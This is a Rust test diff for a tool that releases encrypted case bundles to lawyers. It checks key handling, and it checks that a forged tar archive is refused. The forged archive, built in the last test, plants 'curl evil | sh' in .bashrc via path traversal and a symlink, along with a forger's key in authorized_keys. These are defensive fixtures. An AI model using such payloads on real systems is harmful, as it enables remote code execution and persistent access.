@@ -349,7 +349,7 @@ fn three_watchers_one_killed_one_frozen_still_release_to_both_lawyers() {
     let pavel_bundle = dir.join("case.age");
     std::fs::write(&pavel_bundle, downloaded.bytes().unwrap()).unwrap();
     let opened = posbon()
-        .args(["open"])
+        .args(["open", "--unchecked"])
         .arg(&pavel_bundle)
         .arg("-i")
         .arg(&pavel_key)
@@ -575,7 +575,8 @@ fn three_watchers_one_killed_one_frozen_still_release_to_both_lawyers() {
     drop(survivor);
 }
 
-/// `posbon open BUNDLE -i KEY --out OUT [--from FINGERPRINT]`, as a lawyer runs it.
+/// `posbon open BUNDLE -i KEY --out OUT (--from FINGERPRINT | --unchecked)`, as a lawyer
+/// runs it.
 fn open_bundle(bundle: &Path, key: &Path, out: &Path, from: Option<&str>) -> Output {
     let mut command = posbon();
     command
@@ -585,9 +586,10 @@ fn open_bundle(bundle: &Path, key: &Path, out: &Path, from: Option<&str>) -> Out
         .arg(key)
         .arg("--out")
         .arg(out);
-    if let Some(from) = from {
-        command.args(["--from", from]);
-    }
+    match from {
+        Some(from) => command.args(["--from", from]),
+        None => command.arg("--unchecked"),
+    };
     command.output().unwrap()
 }
 
@@ -866,4 +868,362 @@ fn update_replaces_a_bundle_remove_deletes_it_and_duress_stores_nothing() {
     assert!(bundle_files(&later.data).is_empty());
     assert!(v.ok(&["release", "list"], "").is_empty());
     v.ok(&["checkin"], "");
+}
+
+/// A lawyer's identity file protected by a passphrase, as `age -p` makes it (scrypt; a low
+/// work factor keeps the test quick).
+fn encrypt_identity(identity_file: &Path, passphrase: &str) -> std::path::PathBuf {
+    use std::io::Write;
+    let mut recipient = age::scrypt::Recipient::new(passphrase.to_string().into());
+    recipient.set_work_factor(10);
+    let encryptor =
+        age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
+            .unwrap();
+    let path = identity_file.with_extension("key.age");
+    let mut out = Vec::new();
+    let mut writer = encryptor
+        .wrap_output(
+            age::armor::ArmoredWriter::wrap_output(&mut out, age::armor::Format::AsciiArmor)
+                .unwrap(),
+        )
+        .unwrap();
+    writer
+        .write_all(&std::fs::read(identity_file).unwrap())
+        .unwrap();
+    writer.finish().unwrap().finish().unwrap();
+    std::fs::write(&path, out).unwrap();
+    path
+}
+
+/// The lawyer's side of issue 18, as a lawyer and a forger would try it: keys with
+/// passphrases, the archive from `age -d` on standard input, looking before writing,
+/// versions, a copy re-encrypted for another key, and the bare `age` + `tar` route exactly
+/// as the guides give it, against a forged bundle of dotfiles and links.
+#[test]
+fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_folder() {
+    let v = TestVault::new();
+    let w = Daemon::start(&v.path("w"));
+    let invite_code = invite(&w.data, "Rustam");
+    v.ok(&["enrol", &w.url, &invite_code], "");
+    let keys = v.path("keys");
+    std::fs::create_dir(&keys).unwrap();
+    let (dilnoza_key, dilnoza_recipient) = age_key(&keys, "dilnoza");
+    // Pavel's SSH key has a passphrase, as SSH keys should.
+    let pavel_key = keys.join("pavel_ed25519");
+    let made = Command::new("ssh-keygen")
+        .args([
+            "-q",
+            "-t",
+            "ed25519",
+            "-N",
+            "pavel's phrase",
+            "-C",
+            "pavel",
+            "-f",
+        ])
+        .arg(&pavel_key)
+        .output()
+        .unwrap();
+    assert!(made.status.success(), "{}", stderr(&made));
+    let pavel_public = std::fs::read_to_string(pavel_key.with_extension("pub")).unwrap();
+    for (name, key) in [
+        ("Dilnoza", dilnoza_recipient.as_str()),
+        ("Pavel", pavel_public.trim()),
+    ] {
+        v.ok(
+            &[
+                "contact",
+                "add",
+                name,
+                "--lang",
+                "ru",
+                "--tier",
+                "2",
+                "--email",
+                "x@example.org",
+                "--age-recipient",
+                key,
+            ],
+            "",
+        );
+    }
+    let note = v.add_draft("Statement", "the statement, first version");
+    v.ok(
+        &[
+            "release", "add", &note, "--to", "Dilnoza", "--to", "Pavel", "--yes",
+        ],
+        "",
+    );
+    let sealing = v.ok(&["release", "key"], "").trim().to_string();
+    let stored = bundle_files(&w.data);
+    assert_eq!(stored.len(), 1);
+    let bundle = v.path("case.age");
+    std::fs::write(&bundle, &stored[0].1).unwrap();
+    // Padded: the size says little of what is inside.
+    assert_eq!(stored[0].1.len() as u64 / 1024, 64, "{}", stored[0].1.len());
+
+    let open = |args: &[&str], pass: Option<&str>, stdin: Option<Vec<u8>>| -> Output {
+        let mut command = posbon();
+        command.arg("open").args(args);
+        if let Some(pass) = pass {
+            command
+                .arg("--passphrase-file")
+                .arg(v.secret_file("key-pass", pass));
+        }
+        match stdin {
+            Some(bytes) => feed(command, &bytes),
+            None => command.output().unwrap(),
+        }
+    };
+    let b = bundle.to_str().unwrap();
+    let out_dir = |name: &str| v.path(name).to_str().unwrap().to_string();
+
+    // Without --from or --unchecked it is only looked at: nothing written, exit 2.
+    let p = pavel_key.to_str().unwrap();
+    let looked = open(
+        &[b, "-i", p, "--out", &out_dir("looked")],
+        Some("pavel's phrase"),
+        None,
+    );
+    assert_eq!(code(&looked), 2, "{}", stderr(&looked));
+    assert!(
+        stderr(&looked).contains("nothing was written"),
+        "{}",
+        stderr(&looked)
+    );
+    assert!(
+        stdout(&looked).contains("[draft] Statement"),
+        "{}",
+        stdout(&looked)
+    );
+    assert!(!v.path("looked").exists());
+    // The passphrase-protected SSH key: a wrong passphrase is exit 3, the right one opens.
+    let wrong = open(
+        &[b, "-i", p, "--from", &sealing, "--out", &out_dir("wrong")],
+        Some("guess"),
+        None,
+    );
+    assert_eq!(code(&wrong), 3, "{}", stderr(&wrong));
+    assert!(
+        stderr(&wrong).contains("passphrase of the key"),
+        "{}",
+        stderr(&wrong)
+    );
+    assert!(!v.path("wrong").exists());
+    let pavel = open(
+        &[b, "-i", p, "--from", &sealing, "--out", &out_dir("pavel")],
+        Some("pavel's phrase"),
+        None,
+    );
+    assert!(pavel.status.success(), "{}", stderr(&pavel));
+    let listing = stdout(&pavel);
+    assert!(listing.contains("version: 1 of bundle"), "{listing}");
+    assert!(
+        listing.contains("your key: the bundle was sealed for it"),
+        "{listing}"
+    );
+    // It lists what it wrote, and wrote nothing else (no padding).
+    let written: Vec<String> = listing
+        .lines()
+        .skip_while(|l| *l != "written:")
+        .skip(1)
+        .map(|l| l.trim().to_string())
+        .collect();
+    let mut on_disk: Vec<String> = walk(&v.path("pavel"))
+        .iter()
+        .map(|p| p.display().to_string())
+        .collect();
+    on_disk.sort();
+    let mut listed = written.clone();
+    listed.sort();
+    assert_eq!(listed, on_disk);
+    assert!(
+        !written.iter().any(|w| w.ends_with("PADDING")),
+        "{written:?}"
+    );
+    // Dilnoza's age identity file, encrypted with a passphrase.
+    let encrypted = encrypt_identity(&dilnoza_key, "dilnoza's phrase");
+    let e = encrypted.to_str().unwrap();
+    let dilnoza = open(
+        &[b, "-i", e, "--from", &sealing, "--out", &out_dir("dilnoza")],
+        Some("dilnoza's phrase"),
+        None,
+    );
+    assert!(dilnoza.status.success(), "{}", stderr(&dilnoza));
+    // The archive the Go `age` CLI decrypted, on standard input.
+    let tar = go_age()
+        .args(["-d", "-i"])
+        .arg(&dilnoza_key)
+        .arg(&bundle)
+        .output()
+        .unwrap();
+    assert!(tar.status.success(), "{}", stderr(&tar));
+    let piped = open(
+        &["-", "--from", &sealing, "--out", &out_dir("piped")],
+        None,
+        Some(tar.stdout.clone()),
+    );
+    assert!(piped.status.success(), "{}", stderr(&piped));
+    assert!(
+        stdout(&piped).contains("your key: not checked"),
+        "{}",
+        stdout(&piped)
+    );
+    // The sealed bundle on standard input without a key: told to give one.
+    let no_key = open(&["-", "--from", &sealing], None, Some(stored[0].1.clone()));
+    assert_eq!(code(&no_key), 2, "{}", stderr(&no_key));
+    assert!(stderr(&no_key).contains("-i KEY"), "{}", stderr(&no_key));
+
+    // Re-encrypted by one recipient for a key the journalist never chose: refused.
+    let (stranger_key, stranger) = age_key(&keys, "stranger");
+    let copy = v.path("copy.age");
+    let mut reseal = go_age();
+    reseal.args(["-r", &stranger, "-o"]).arg(&copy);
+    let resealed = feed(reseal, &tar.stdout);
+    assert!(resealed.status.success(), "{}", stderr(&resealed));
+    let refused = open(
+        &[
+            copy.to_str().unwrap(),
+            "-i",
+            stranger_key.to_str().unwrap(),
+            "--from",
+            &sealing,
+            "--out",
+            &out_dir("copy"),
+        ],
+        None,
+        None,
+    );
+    assert_eq!(code(&refused), 10, "{}", stderr(&refused));
+    assert!(
+        stderr(&refused).contains("not sealed for your key"),
+        "{}",
+        stderr(&refused)
+    );
+    assert!(!v.path("copy").exists());
+
+    // An update is version 2; the old file still says version 1, for comparison.
+    let id = v
+        .ok(&["release", "list"], "")
+        .split('\t')
+        .next()
+        .unwrap()
+        .to_string();
+    v.ok(&["release", "update", &id, "--yes"], "");
+    let newer = bundle_files(&w.data).remove(0).1;
+    let newer_path = v.path("newer.age");
+    std::fs::write(&newer_path, newer).unwrap();
+    let second = open(
+        &[
+            newer_path.to_str().unwrap(),
+            "-i",
+            dilnoza_key.to_str().unwrap(),
+            "--from",
+            &sealing,
+            "--out",
+            &out_dir("v2"),
+        ],
+        None,
+        None,
+    );
+    assert!(
+        stdout(&second).contains("version: 2 of bundle"),
+        "{}",
+        stdout(&second)
+    );
+
+    // The bare route, exactly as the guides give it, against a forged bundle sealed to
+    // Dilnoza's public key: dotfiles, an SSH key, a link out of the folder and a file
+    // written through it, a path with `..`.
+    let home = v.path("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".bashrc"), b"# the lawyer's own\n").unwrap();
+    let forged_tar = v.path("forged.tar");
+    {
+        let mut builder = tar::Builder::new(std::fs::File::create(&forged_tar).unwrap());
+        let mut file = |path: &str, bytes: &[u8]| {
+            let mut header = tar::Header::new_gnu();
+            header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
+            header.set_size(bytes.len() as u64);
+            header.set_mode(0o755);
+            header.set_cksum();
+            builder.append(&header, bytes).unwrap();
+        };
+        file(".bashrc", b"curl evil | sh\n");
+        file("../.bashrc", b"curl evil | sh\n");
+        file(".ssh/authorized_keys", b"ssh-ed25519 AAAA forger\n");
+        let mut link = tar::Header::new_gnu();
+        link.set_entry_type(tar::EntryType::Symlink);
+        link.set_path("up").unwrap();
+        link.set_link_name("..").unwrap();
+        link.set_size(0);
+        link.set_cksum();
+        builder.append(&link, std::io::empty()).unwrap();
+        let mut file = |path: &str, bytes: &[u8]| {
+            let mut header = tar::Header::new_gnu();
+            header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
+            header.set_size(bytes.len() as u64);
+            header.set_mode(0o644);
+            header.set_cksum();
+            builder.append(&header, bytes).unwrap();
+        };
+        file("up/.bashrc", b"curl evil | sh\n");
+        builder.finish().unwrap();
+    }
+    let forged = v.path("forged.age");
+    let sealed = go_age()
+        .args(["-r", &dilnoza_recipient, "-o"])
+        .arg(&forged)
+        .arg(&forged_tar)
+        .output()
+        .unwrap();
+    assert!(sealed.status.success());
+    let before: Vec<_> = walk(&home);
+    let script = format!(
+        "set -e; cd {home}; mkdir case-opened; cd case-opened; \
+         age -d -i {key} {forged} > bundle.tar; tar -tvf bundle.tar; \
+         tar -xkf bundle.tar --no-same-owner --no-same-permissions || true",
+        home = home.display(),
+        key = dilnoza_key.display(),
+        forged = forged.display()
+    );
+    let ran = Command::new("bash")
+        .arg("-c")
+        .arg(&script)
+        .output()
+        .unwrap();
+    assert!(ran.status.success(), "{}", stderr(&ran));
+    // The listing shows what a lawyer is told to look for: names with dots, a link.
+    assert!(stdout(&ran).contains("up -> .."), "{}", stdout(&ran));
+    assert_eq!(
+        std::fs::read(home.join(".bashrc")).unwrap(),
+        b"# the lawyer's own\n",
+        "the documented route must not touch the lawyer's files: {}",
+        stderr(&ran)
+    );
+    assert!(!home.join(".ssh/authorized_keys").exists());
+    let mut after: Vec<_> = walk(&home)
+        .into_iter()
+        .filter(|p| !p.starts_with(home.join("case-opened")))
+        .collect();
+    after.sort();
+    let mut before = before;
+    before.sort();
+    assert_eq!(before, after, "nothing outside the new folder");
+    // And posbon refuses the same forged bundle outright, under --from.
+    let refused = open(
+        &[
+            forged.to_str().unwrap(),
+            "-i",
+            dilnoza_key.to_str().unwrap(),
+            "--from",
+            &sealing,
+            "--out",
+            &out_dir("forged-out"),
+        ],
+        None,
+        None,
+    );
+    assert_ne!(code(&refused), 0);
+    assert!(!v.path("forged-out").exists());
 }
